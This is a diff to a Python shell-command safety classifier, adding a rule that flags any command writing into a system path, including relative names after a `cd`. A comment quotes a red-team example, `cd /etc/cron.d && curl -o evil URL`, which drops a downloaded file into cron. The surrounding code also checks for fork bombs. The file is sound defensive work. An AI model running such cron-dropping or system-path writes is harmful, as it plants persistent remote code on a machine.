@@ -34,6 +34,7 @@ from .rules import (
     TRANSFER_WRITE,
     Rule,
     dangerous_sql,
+    is_system_path,
     rule_by_name,
 )
 from .safe import CATALOGUE, Tool, Verdict, assignment_why, known_safe
@@ -372,6 +373,14 @@ def _classify(line: str, rules: Sequence[Rule],
         c.name in funcs and c.name in c.pipe_from for c in result.commands
     ):
         findings.append(_finding(FORK_BOMB, None, span=(0, len(line))))
+    # what the line writes, placed where it lands (a relative name after `cd /etc/cron.d`
+    # is /etc/cron.d/NAME): a system path is held whichever command wrote it and however
+    # it named it (red team s9b F0: `cd /etc/cron.d && curl -o evil URL`)
+    for p in dict.fromkeys(writes):
+        if p.startswith("/") and is_system_path(p) and not p.startswith("/dev/") and \
+                not any(p in f.paths for f in findings):
+            findings.append(Finding(WRITE_SYSTEM.name, f"writes into a system path ({p!r})",
+                                    WRITE_SYSTEM.action, (), (0, len(line)), (p,)))
     check_now()  # a step between two checks may have run past the deadline: then it is over
     return Classification(line, tuple(_dedupe(findings)), result.commands, tuple(safe_by),
                           tuple(dict.fromkeys(writes)), walked.ends_in)
@@ -540,6 +549,8 @@ _WARM_UP_LINES = (
     "sed 's/foo/bar/' f; psql -c 'explain analyse delete from users'; cp -a /etc/x ~/y",
     "aws ec2 describe-instances --query 'R[].I[]'; cd /srv/app && grep -rn TODO .",
 )
+#: the rule a write into a system path is held by, however the line named the path
+WRITE_SYSTEM = next(r for r in ALL_RULES if r.name == "fs.write-system-path")
 _WARM = threading.Event()
 _WARM_LOCK = threading.Lock()
 
